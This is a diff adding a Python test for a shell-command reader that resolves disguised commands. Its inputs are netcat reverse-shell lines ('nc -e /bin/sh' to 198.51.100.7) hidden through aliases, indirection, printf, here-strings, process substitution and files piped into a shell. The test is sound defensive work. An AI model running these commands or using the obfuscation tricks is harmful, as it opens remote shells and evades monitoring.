@@ -202,3 +202,18 @@ def test_parameter_expansions_that_hide_a_word_are_applied():
                  "nc$IFS-e /bin/sh 198.51.100.7 4444"):
         assert [c.line for c in reader.read(text)][-1] == "nc -e /bin/sh 198.51.100.7 4444", text
     assert [c.line for c in reader.read("a=x; echo ${a%%*o} ${b:-dflt}")][-1] == "echo x dflt"  # a glob: left alone
+
+
+def test_words_built_by_builtins_and_files_are_followed():
+    reader = ShellReader()
+    target = "nc -e /bin/sh 198.51.100.7 4444"
+    for text in ("y=nc; x=y; ${!x} -e /bin/sh 198.51.100.7 4444",        # indirection
+                 "x=n; x+=c; $x -e /bin/sh 198.51.100.7 4444",           # append
+                 "alias x=nc; x -e /bin/sh 198.51.100.7 4444",           # alias
+                 "printf -v x 'nc'; $x -e /bin/sh 198.51.100.7 4444",    # printf -v
+                 "read x <<< nc; $x -e /bin/sh 198.51.100.7 4444",       # read from a here-string
+                 f"sh <(echo {target})", f"source <(echo {target})",    # process substitution as a file
+                 f"echo '{target}' > /tmp/a; sh < /tmp/a",               # stdin from a file written
+                 f"echo '{target}' > /tmp/a; cat /tmp/a | bash"):        # cat of it into a shell
+        assert target in [c.line for c in reader.read(text, Session())], text
+    assert [c.line for c in reader.read("alias ls=ls; ls -la", Session())][1:] == ["ls -la", "ls -la"]  # no loop
